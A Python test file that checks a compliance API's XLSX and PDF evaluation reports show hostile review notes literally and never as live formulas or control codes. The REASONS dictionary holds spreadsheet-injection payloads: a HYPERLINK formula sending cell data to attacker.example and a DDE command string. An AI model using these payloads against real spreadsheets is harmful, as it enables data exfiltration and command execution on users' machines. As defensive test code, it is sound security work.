"""Hostile text in the evaluation report: a review note with control characters or a formula is
shown as typed in the XLSX and the PDF, and runs nowhere."""

from __future__ import annotations

import io

from openpyxl import load_workbook
from pypdf import PdfReader

from tests.compliance.conftest import Api
from tests.compliance.test_api import sqlite_api, violations  # noqa: F401  (a fixture)

REASONS = {
    "device_overdue": '=HYPERLINK("http://attacker.example/?"&B2,"详情")',
    "late_transfer": "+cmd|' /C calc'!A0",
}
ESCAPED = "复核：\x1b[2J清屏\x00"


def test_the_evaluation_report_shows_hostile_review_notes_as_typed(sqlite_api: Api) -> None:
    flags = violations(sqlite_api.site)
    for kind, reason in [*REASONS.items(), ("clock_off", ESCAPED)]:
        base = f"/api/v1/compliance/flags/{flags[kind]}/review"
        assert sqlite_api.post("legal", base, {"state": "under_review"}).status_code == 200
        r = sqlite_api.post("legal", base, {"state": "confirmed", "reason": reason})
        assert r.status_code == 200, r.text

    for unit in ("U1", "U2"):
        params = {"unit_id": sqlite_api.site.units[unit]}
        xlsx = sqlite_api.get("legal", "/api/v1/compliance/report.xlsx", params=params)
        assert xlsx.status_code == 200, xlsx.text
        book = load_workbook(io.BytesIO(xlsx.content))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert all(c.data_type != "f" for c in cells), "a cell became a formula"
        for reason in REASONS.values() if unit == "U1" else ():
            cell = next(c for c in cells if c.value == reason)
            assert cell.data_type == "s" and cell.quotePrefix
        if unit == "U2":
            assert "复核：␛[2J清屏␀" in {c.value for c in cells}

        pdf = sqlite_api.get("legal", "/api/v1/compliance/report.pdf", params=params)
        assert pdf.status_code == 200, pdf.text
        text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
        assert "\x1b" not in text and "\x00" not in text
        assert ("HYPERLINK" in text) if unit == "U1" else ("␛[2J" in text)
